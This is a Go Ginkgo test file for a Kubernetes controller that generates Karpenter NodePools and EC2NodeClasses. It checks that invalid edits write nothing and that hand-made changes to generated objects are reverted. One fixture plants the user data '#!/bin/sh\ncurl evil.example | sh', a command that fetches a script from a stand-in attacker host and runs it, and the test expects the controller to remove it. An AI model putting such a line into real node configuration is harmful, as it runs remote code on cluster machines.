package controllers_test

import (
	"fmt"

	awsv1 "github.com/aws/karpenter-provider-aws/pkg/apis/v1"
	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/metrics"
	karpv1 "sigs.k8s.io/karpenter/pkg/apis/v1"

	v1alpha1 "github.com/poolsmith/poolsmith/api/v1alpha1"
)

// familyVersions are the resourceVersions of a class's EC2NodeClass and NodePools.
func familyVersions(class string) func() map[string]string {
	return func() map[string]string {
		rv := map[string]string{"EC2NodeClass/" + class: get(&awsv1.EC2NodeClass{}, class).ResourceVersion}
		for _, n := range nodePoolNames(class)() {
			rv["NodePool/"+n] = get(&karpv1.NodePool{}, n).ResourceVersion
		}
		return rv
	}
}

// classEvents counts the events recorded on a class with the given reason.
func classEvents(class, reason string) func() int {
	return func() int {
		list := &eventsv1.EventList{}
		ExpectWithOffset(1, env.Client.List(ctx, list, client.InNamespace(metav1.NamespaceDefault))).To(Succeed())
		n := 0
		for _, e := range list.Items {
			if e.Regarding.Name == class && e.Regarding.Kind == "WorkloadClass" && e.Reason == reason {
				n++
			}
		}
		return n
	}
}

// gaugeValue reads a gauge of the manager's metrics registry by one label.
func gaugeValue(name, label, value string) float64 {
	families, err := metrics.Registry.Gather()
	Expect(err).NotTo(HaveOccurred())
	for _, f := range families {
		if f.GetName() != name {
			continue
		}
		for _, m := range f.GetMetric() {
			for _, l := range m.GetLabel() {
				if l.GetName() == label && l.GetValue() == value {
					return m.GetGauge().GetValue()
				}
			}
		}
	}
	return 0
}

var _ = Describe("The write path: plan, validate, then write", func() {
	It("writes nothing of a class when Karpenter's CRDs would refuse any part of it", func() {
		create(newBaseline("whole"), newClass("whole", "whole"))
		waitSynced("whole")
		before := familyVersions("whole")()
		errorsBefore := counterValue("poolsmith_reconcile_errors_total", "reason", v1alpha1.ReasonInvalidSpec)

		// The EC2NodeClass part of this edit is valid and would drift every node; the
		// requirement makes Karpenter's NodePool CRD refuse every rung.
		wc := get(&v1alpha1.WorkloadClass{}, "whole")
		wc.Spec.NodeClass = &v1alpha1.NodeClassOverrides{Tags: map[string]string{"team": "ml"}, Kubelet: awsv1.KubeletConfiguration{"maxPods": apiextensionsv1.JSON{Raw: []byte("50")}}}
		wc.Spec.Requirements = []v1alpha1.Requirement{{Key: "karpenter.k8s.aws/instance-cpu", Operator: corev1.NodeSelectorOpLt, Values: []string{"-1"}}}
		if err := env.Client.Update(ctx, wc); err != nil {
			Skip(fmt.Sprintf("admission now refuses this edit itself: %v", err))
		}
		Eventually(condition("whole", v1alpha1.ConditionSynced)).Should(haveCondition(metav1.ConditionFalse, v1alpha1.ReasonInvalidSpec))
		msg := condition("whole", v1alpha1.ConditionSynced)().Message
		Expect(msg).To(ContainSubstring("NodePool/whole-spot-amd64"))
		Expect(msg).To(ContainSubstring("spec.template.spec.requirements"))
		Consistently(familyVersions("whole")).Should(Equal(before), "not even the valid EC2NodeClass change may be written")
		Expect(classEvents("whole", v1alpha1.ReasonInvalidSpec)()).To(Equal(1))
		Expect(counterValue("poolsmith_reconcile_errors_total", "reason", v1alpha1.ReasonInvalidSpec)-errorsBefore).To(Equal(1.0), "a terminal error is not retried")
		Expect(gaugeValue("poolsmith_workloadclasses_not_synced", "reason", v1alpha1.ReasonInvalidSpec)).To(BeNumerically(">=", 1))

		// Fixing the class writes the whole family at once.
		wc = get(&v1alpha1.WorkloadClass{}, "whole")
		wc.Spec.Requirements = nil
		Expect(env.Client.Update(ctx, wc)).To(Succeed())
		waitSynced("whole")
		Expect(get(&awsv1.EC2NodeClass{}, "whole").Spec.Tags).To(HaveKeyWithValue("team", "ml"))
	})

	It("removes fields of a generated child that the render does not produce", func() {
		create(newBaseline("foreign"), newClass("foreign", "foreign"))
		waitSynced("foreign")
		np := get(&karpv1.NodePool{}, "foreign-spot-amd64")
		np.Spec.Template.Spec.Taints = []corev1.Taint{{Key: "evil", Effect: corev1.TaintEffectNoExecute}}
		np.Spec.Template.Spec.StartupTaints = []corev1.Taint{{Key: "late", Effect: corev1.TaintEffectNoSchedule}}
		np.Spec.Template.Annotations = map[string]string{"example.com/hand": "added"}
		// Karpenter keeps its hash annotations in object metadata: those stay.
		metav1.SetMetaDataAnnotation(&np.ObjectMeta, "karpenter.sh/nodepool-hash", "12345")
		Expect(env.Client.Update(ctx, np)).To(Succeed())
		nc := get(&awsv1.EC2NodeClass{}, "foreign")
		nc.Spec.UserData = ptr.To("#!/bin/sh\ncurl evil.example | sh")
		Expect(env.Client.Update(ctx, nc)).To(Succeed())

		Eventually(func() string {
			got := get(&karpv1.NodePool{}, "foreign-spot-amd64")
			return fmt.Sprintf("%v %v %v", got.Spec.Template.Spec.Taints, got.Spec.Template.Spec.StartupTaints, got.Spec.Template.Annotations)
		}).Should(Equal("[] [] map[]"))
		Eventually(func() *string { return get(&awsv1.EC2NodeClass{}, "foreign").Spec.UserData }).Should(BeNil())
		Expect(get(&karpv1.NodePool{}, "foreign-spot-amd64").Annotations).To(HaveKeyWithValue("karpenter.sh/nodepool-hash", "12345"))
		waitSynced("foreign")
	})
})

// counterValue reads a counter of the manager's metrics registry by one label.
func counterValue(name, label, value string) float64 {
	families, err := metrics.Registry.Gather()
	Expect(err).NotTo(HaveOccurred())
	for _, f := range families {
		if f.GetName() != name {
			continue
		}
		for _, m := range f.GetMetric() {
			for _, l := range m.GetLabel() {
				if l.GetName() == label && l.GetValue() == value {
					return m.GetCounter().GetValue()
				}
			}
		}
	}
	return 0
}
